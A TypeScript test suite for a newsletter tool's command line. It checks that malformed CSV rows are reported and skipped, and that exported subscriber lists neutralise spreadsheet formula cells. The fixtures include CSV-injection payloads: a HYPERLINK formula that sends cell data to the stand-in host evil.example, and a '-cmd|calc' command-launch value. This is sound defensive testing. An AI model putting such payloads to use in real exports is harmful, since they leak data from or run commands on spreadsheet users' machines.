import { afterEach, expect, it } from 'vitest';
import { copyFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { capturedRecipients } from '../helpers/captured.js';
import { makeProject, type TestProject } from '../helpers/project.js';
import { runCli } from '../helpers/cli.js';
import { HEADER } from '../helpers/lists.js';

/** The list files of CRM and spreadsheet exports, through the real command line (built dist). */
const PINNED_AT = '2026-11-28T12:00:00Z';
const FIXTURES = new URL('../fixtures/lists/', import.meta.url);
const projects: TestProject[] = [];
afterEach(() => {
  for (const p of projects.splice(0)) p.cleanup();
});
const project = (options: Parameters<typeof makeProject>[0] = {}) => {
  const p = makeProject(options);
  projects.push(p);
  return p;
};

const delivered = capturedRecipients;

it('`send` with a CRM export whose names come first and hold an unclosed quote: the bad row reported at file:line, no reader swallowed, everyone else mailed, exit 0', async () => {
  const p = project();
  const list = join(p.dir, 'subscribers', 'weekly-brief.csv');
  copyFileSync(new URL('name-first-export.csv', FIXTURES), list);
  const send = await runCli(['send', '--at', PINNED_AT, '--config', p.configFile]);
  expect(send.code, send.stderr).toBe(0);
  expect(send.stderr).not.toMatch(/unexpected error|^\s+at /m);
  expect(send.stderr).toContain(`${list}:2: not a valid CSV row (a quote opened on this line is never closed at the end of a field); row skipped`);
  expect(await delivered(p.dir)).toEqual(['ada@example.org', 'bob@example.org', 'carl@example.org', 'rock@example.org', 'zed@example.org']);
}, 30_000);

it('`subscribers import FILE` of a CRM export with bad rows reports each at file:line and imports the rest', async () => {
  const p = project();
  const crm = join(p.dir, 'crm.csv');
  writeFileSync(
    crm,
    Buffer.concat([
      Buffer.from(`sep=,\r\n${HEADER}\r\n`),
      Buffer.from('rock@example.org,Dwayne "The Rock" Johnson,en,,subscribed,2026-05-01T00:00:00Z,crm,\r\n'),
      Buffer.from('open@example.org,"Open Quote,en,,subscribed,2026-05-01T00:00:00Z,crm,\r\n'),
      Buffer.from([0x00, 0x01, 0xff, 0xfe, 0x0d, 0x0a]),
      Buffer.from('semi@example.org;Semi;en;;subscribed;2026-05-01T00:00:00Z;crm;\r\n'),
      Buffer.from("'-dash@example.org,'=1+1,en,,subscribed,2026-05-01T00:00:00Z,crm,\r\n"),
      Buffer.from('late@example.org,Late Reader,en,,subscribed,2026-05-01T00:00:00Z,crm,\r\n'),
    ]),
  );
  const imported = await runCli(['subscribers', 'import', crm, '--config', p.configFile]);
  expect(imported.code, imported.stderr).toBe(0);
  expect(imported.stderr).not.toMatch(/unexpected error|^\s+at /m);
  expect(imported.stderr).toContain(`weekly-brief: 3 readers in ${crm}; 3 consent change(s) recorded`);
  expect(imported.stderr).toContain(`${crm}:4: not a valid CSV row (a quote opened on this line is never closed at the end of a field); row skipped`);
  expect(imported.stderr).toContain(
    `${crm}:5: not a valid CSV row (holds NUL or bytes that are not UTF-8 text (binary data, or a file saved as Windows-1252 or Latin-1: save it as "CSV UTF-8")); row skipped`,
  );
  expect(imported.stderr).toContain(`${crm}:6: the columns of this row are separated by ";"; list files use commas (","); row skipped`);
  const shown = await runCli(['subscribers', 'show', '--json', '--config', p.configFile, '--', '-dash@example.org']);
  expect(shown.code, shown.stderr).toBe(0);
  expect((JSON.parse(shown.stdout) as { subscriber: { name: string } }).subscriber.name).toBe('=1+1');
  for (const who of ['rock@example.org', 'late@example.org']) expect((await runCli(['subscribers', 'show', who, '--config', p.configFile])).code, who).toBe(0);
}, 60_000);

it('`subscribers export` neutralises formula cells, and the export imports into another store as the same readers: exporting there gives the same bytes', async () => {
  const rows = [
    'eve@example.org,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",en,,subscribed,2026-01-01T00:00:00Z,form,,+33 1 23 45 67 89',
    '-dash@example.org,@SUM(1+1),fr,Europe/Paris,subscribed,2026-01-01T00:00:00Z,-cmd|calc,-minus;plain,',
    // A name that really starts with ' then =: a list file writes it with one more ', as the export does.
    "quote@example.org,''=already quoted,en,,subscribed,2026-01-01T00:00:00Z,form,,'''+two",
    'obrien@example.org,"O\'Brien, ""Pat""",en,,pending,,form,,',
  ];
  const a = project({ subscribers: [`${HEADER},phone`, ...rows].join('\n') + '\n' });
  const exported = await runCli(['subscribers', 'export', '--config', a.configFile]);
  expect(exported.code, exported.stderr).toBe(0);
  // As a spreadsheet reads it: one record a reader, and no cell starting with a formula character.
  const records = parse(exported.stdout) as string[][];
  expect(records).toHaveLength(rows.length + 1);
  expect(records.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  expect(exported.stdout).toContain("'-dash@example.org,'@SUM(1+1),fr,Europe/Paris,subscribed,2026-01-01T00:00:00.000Z,'-cmd|calc,'-minus;plain,");
  expect(exported.stdout).toContain("quote@example.org,''=already quoted,en,,subscribed,2026-01-01T00:00:00.000Z,form,,'''+two");

  const b = project({ subscribers: `${HEADER}\n` });
  const file = join(b.dir, 'from-a.csv');
  writeFileSync(file, exported.stdout);
  const imported = await runCli(['subscribers', 'import', file, '--config', b.configFile]);
  expect(imported.code, imported.stderr).toBe(0);
  expect(imported.stderr).not.toContain(`${file}:`);
  const again = await runCli(['subscribers', 'export', '--config', b.configFile]);
  expect(again.code, again.stderr).toBe(0);
  expect(again.stdout).toBe(exported.stdout);
}, 60_000);
